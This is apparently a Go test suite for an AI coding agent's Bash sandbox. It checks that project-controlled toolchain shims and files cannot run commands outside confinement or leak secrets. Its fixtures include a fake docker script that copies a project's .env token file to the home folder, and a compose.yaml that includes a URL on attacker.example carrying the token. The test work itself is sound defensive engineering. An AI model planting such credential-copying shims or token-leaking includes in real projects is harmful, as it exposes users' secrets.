//go:build amd64 || arm64

package cli_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/lathe-dev/lathe/internal/llm/llmtest"
)

// plants are the user's programs that choose what they run by files of the project, as rustup, asdf, mise and docker
// compose do, and a project that names programs of its own. A program of the project that runs unconfined leaves a file
// in the home folder.
var plants = map[string]string{
	"home/.cargo/bin/rustup": `#!/bin/bash
dir=$PWD
while [ "$dir" != / ] && ! [ -e "$dir/rust-toolchain.toml" ]; do dir=$(dirname "$dir"); done
if [ -e "$dir/rust-toolchain.toml" ]; then
  path=$(sed -n 's/^path = "\(.*\)"/\1/p' "$dir/rust-toolchain.toml")
  "$dir/$path/bin/rustc"
fi
echo "$(basename "$0") 1.0"
`,
	"home/.asdf/shims/node": "#!/bin/bash\n\"$(sed -n 's/^node path://p' .tool-versions)/bin/node\"\n",
	"home/.mise/mise":       "#!/bin/sh\nsh ./planted mise; echo python 3\n",
	"home/tools/docker": "#!/bin/sh\nif [ \"$1\" != --version ]; then cp .env \"$HOME/sent\"; fi; echo docker " +
		"\"$1\"\n",
	"home/tools/asked":           "#!/bin/sh\necho asked >>\"$HOME/approved\"\n",
	"home/p/.tool-versions":      "node path:./toolchain\n",
	"home/p/.env":                "TOKEN=hush\n",
	"home/p/planted":             "#!/bin/sh\necho \"$1\" >\"$HOME/escaped\"\necho \"planted for $1\"\n",
	"home/p/toolchain/bin/rustc": "#!/bin/sh\nsh ./planted rustc\n",
	"home/p/toolchain/bin/node":  "#!/bin/sh\nsh ./planted node\n",
	"home/p/bin/git":             "#!/bin/sh\nsh ./planted git\n",
	"home/p/compose.yaml":        "include:\n  - https://attacker.example/${TOKEN}.yaml\n",
}

// unasked are lines that change nothing by their words, with what their results hold where the sandbox confines them.
var unasked = []struct{ line, result string }{
	{"ls", "compose.yaml"},
	{"cat compose.yaml | head -n 1", "include:"},
	{"git status --short 2>&1 | head -n 1", ""},
	{"rustup --version", "rustup 1.0"},
	{"rustc --version && cargo --version", "cargo 1.0"},
	{"node --version", "planted for node"},
	{"python3 --version", "planted for mise"},
	{"docker --version", "docker --version"},
	{"docker compose ps", "Permission denied"},
	{"docker-compose ps", "Permission denied"},
	{"docker ps", "Permission denied"},
	{"docker ps && node --version", "Permission denied"},
	{"node --version && git push", "Permission denied"},
}

// unconfined are the lines that run unasked where no sandbox works.
var unconfined = map[string]bool{
	"ls": true, "cat compose.yaml | head -n 1": true,
	"git status --short 2>&1 | head -n 1": true, "docker --version": false,
}

func TestNoLineRunsOutsideTheSandboxUnasked(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("only root can set up the machines that an ordinary user finds")
	}
	for _, way := range []userWay{
		{name: "root", status: "tier: full", wrap: asRoot, full: true},
		{name: "own namespaces", status: "tier: full (own namespaces with a user namespace", wrap: asNobody, full: true},
		{name: "landlock", status: "tier: landlock (", wrap: withoutNamespaces(false)},
		{name: "none", status: "tier: none", wrap: withoutLandlock},
	} {
		t.Run(way.name, func(t *testing.T) {
			u := newUser(t, way)
			if out, _, _ := u.lathe("sandbox", "status"); !strings.Contains(out, way.status) {
				t.Skipf("this machine has no such tier: %s", out)
			}
			u.plant()
			u.unasked()
			u.approved()
			if way.full {
				u.excluded()
				u.byModel()
				u.planted()
			}
			u.toolchain()
		})
	}
}

func asRoot(_ *testing.T, _ string, argv []string) *exec.Cmd {
	return exec.Command(argv[0], argv[1:]...)
}

// plant writes the files of plants, for the user.
func (u *user) plant() {
	u.t.Helper()
	for name, text := range plants {
		path := filepath.Join(u.base, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			u.t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o755); err != nil {
			u.t.Fatal(err)
		}
	}
	for link, target := range map[string]string{
		".cargo/bin/rustc": "rustup", ".cargo/bin/cargo": "rustup",
		".mise/shims/python3": "../mise", "tools/docker-compose": "docker",
	} {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(u.base, "home", link)), 0o755); err != nil {
			u.t.Fatal(err)
		}
		if err := os.Symlink(target, filepath.Join(u.base, "home", link)); err != nil {
			u.t.Fatal(err)
		}
	}
	err := filepath.WalkDir(u.base+"/home", func(path string, _ fs.DirEntry, err error) error {
		if err == nil && u.way.name == "root" {
			return os.Lchown(path, 0, 0)
		}
		if err == nil {
			err = os.Lchown(path, nobody, nobody)
		}
		return err
	})
	if err != nil {
		u.t.Fatal(err)
	}
}

// run has the model call Bash with each line, where no one can be asked, and returns the results.
func (u *user) run(flags []string, lines ...string) []string {
	u.t.Helper()
	var script strings.Builder
	script.WriteString("reply\n  when system=\"You decide whether\"\n  say ALLOW: it builds\nreply\n")
	for _, line := range lines {
		input, _ := json.Marshal(map[string]string{"command": line})
		fmt.Fprintf(&script, "  call Bash %s\n", input)
	}
	parsed, err := llmtest.Parse([]byte(script.String() + "reply\n  say Done.\n"))
	if err != nil {
		u.t.Fatal(err)
	}
	u.server = llmtest.New(parsed, llmtest.Options{})
	if err := u.server.Start("127.0.0.1:0"); err != nil {
		u.t.Fatal(err)
	}
	defer u.server.Close()
	home := u.base + "/home"
	path := strings.Join([]string{
		home + "/p/bin", home + "/.cargo/bin", home + "/.asdf/shims", home + "/.mise/shims",
		home + "/tools", "/usr/bin", "/bin",
	}, ":")
	out, stderr, code := u.lathe(append(append([]string{
		"-p", "--output-format", "stream-json", "--verbose", "--settings",
		`{"env":{"PATH":"` + path + `","npm_config_fetch_retries":"0","PIP_RETRIES":"0","CARGO_NET_RETRY":"0"}}`,
	}, flags...), "--", "go")...)
	if code != 0 {
		u.t.Fatalf("exit code %d: %s%s", code, out, stderr)
	}
	of := resultTexts(out)
	var results []string
	for _, line := range lines {
		text, ok := of[line]
		if !ok {
			u.t.Fatalf("%s has no result: %s", line, out)
		}
		results = append(results, text)
	}
	return results
}

// resultTexts are the texts of the results in a stream of messages, by the command.
func resultTexts(stream string) map[string]string {
	lines, texts := map[string]string{}, map[string]string{}
	for line := range bytes.Lines([]byte(stream)) {
		var m struct {
			Message struct {
				Content []struct {
					Type    string                   `json:"type"`
					ID      string                   `json:"id"`
					Of      string                   `json:"tool_use_id"`
					Input   struct{ Command string } `json:"input"`
					Content json.RawMessage          `json:"content"`
				} `json:"content"`
			} `json:"message"`
		}
		if json.Unmarshal(line, &m) != nil {
			continue
		}
		for _, part := range m.Message.Content {
			switch part.Type {
			case "tool_use":
				lines[part.ID] = part.Input.Command
			case "tool_result":
				texts[lines[part.Of]] = string(part.Content)
			}
		}
	}
	return texts
}

// unasked runs the lines of unasked: none has an effect in the home folder, and each that runs does so inside.
func (u *user) unasked() {
	u.t.Helper()
	var lines []string
	for _, l := range unasked {
		lines = append(lines, l.line)
	}
	for i, got := range u.run(nil, lines...) {
		want := unasked[i].result
		if !u.way.full && !unconfined[lines[i]] {
			want = "Permission denied"
		}
		if !strings.Contains(got, want) || want != "Permission denied" && strings.Contains(got, "Permission denied: ") {
			u.t.Errorf("%s: not %q: %s", lines[i], want, got)
		}
	}
	u.nothing("unasked")
}

// nothing fails if a program of the project ran unconfined, or the file with secrets was read outside.
func (u *user) nothing(when string) {
	u.t.Helper()
	for _, name := range []string{"escaped", "sent"} {
		if text, err := os.ReadFile(filepath.Join(u.base, "home", name)); err == nil {
			u.t.Errorf("%s: a line ran outside of the sandbox: %s: %s", when, name, text)
		}
	}
}

// approved: a rule for one program lets no other one of the line out, and one for the line itself does.
func (u *user) approved() {
	u.t.Helper()
	results := u.run([]string{"--allowedTools", "Bash(git push *),Bash(docker ps *),Bash(head *)"},
		"node --version; git push", "docker compose ps | head -n 1", "docker images | head -n 1")
	u.nothing("with rules for other programs")
	for i, got := range results {
		if !strings.Contains(got, "Permission denied") {
			u.t.Errorf("%d: not denied: %s", i, got)
		}
	}
	if got := u.run([]string{"--allowedTools", "Bash(docker ps *)"}, "docker ps | head -n 1")[0]; !strings.Contains(got,
		"docker ps") {
		u.t.Errorf("an approved line: %s", got)
	}
	if _, err := os.Stat(u.base + "/home/sent"); err != nil {
		u.t.Errorf("an approved line that needs the outside ran inside: %v", err)
	}
	_ = os.Remove(u.base + "/home/sent")
}

// toolchain: a line that runs the toolchain of the project asks where no sandbox holds it.
func (u *user) toolchain() {
	u.t.Helper()
	if err := os.WriteFile(u.base+"/home/p/rust-toolchain.toml", []byte("[toolchain]\npath = \"toolchain\"\n"),
		0o644); err != nil {
		u.t.Fatal(err)
	}
	for _, got := range u.run(nil, "rustup --version", "rustc --version", "cargo --version", "rustup --version | cat",
		"ls; rustup -V") {
		if strings.Contains(got, "Permission denied: ") == u.way.full {
			u.t.Errorf("with a toolchain of the project: %s", got)
		}
	}
	u.nothing("with a toolchain of the project")
}

// excluded: a setting that sends commands outside does not approve them.
func (u *user) excluded() {
	u.t.Helper()
	settings := u.base + "/home/.config/lathe/settings.json"
	if err := os.WriteFile(settings, []byte(`{"sandbox":{"excludedCommands":["ls","node","touch"]}}`), 0o644); err != nil {
		u.t.Fatal(err)
	}
	for _, got := range u.run([]string{"--permission-mode", "acceptEdits"}, "ls", "node --version", "touch x") {
		if !strings.Contains(got, "Permission denied") {
			u.t.Errorf("with excludedCommands: %s", got)
		}
	}
	u.nothing("with excludedCommands")
	if err := os.WriteFile(settings, []byte("{}"), 0o644); err != nil {
		u.t.Fatal(err)
	}
}

// byModel: the small model of the mode auto sends no line outside.
func (u *user) byModel() {
	u.t.Helper()
	if got := u.run([]string{"--permission-mode", "auto"}, "docker build ."); !strings.Contains(got[0],
		"Permission denied") {
		u.t.Errorf("in the mode auto: %s", got)
	}
	if got := u.run([]string{"--permission-mode", "auto"}, "sh toolchain/bin/node"); !strings.Contains(got[0],
		"planted for node") {
		u.t.Errorf("in the mode auto, inside: %s", got)
	}
	u.nothing("in the mode auto")
}

// planted: a program of the project that has the name of one that needs the outside stays inside, with a rule too.
func (u *user) planted() {
	u.t.Helper()
	docker := u.base + "/home/p/bin/docker"
	if err := os.WriteFile(docker, []byte("#!/bin/sh\nsh ./planted docker\n"), 0o755); err != nil {
		u.t.Fatal(err)
	}
	if got := u.run([]string{"--allowedTools", "Bash(docker *)"}, "docker build ."); !strings.Contains(got[0],
		"planted for docker") {
		u.t.Errorf("the program of the project: %s", got)
	}
	u.nothing("with a program of the project")
}
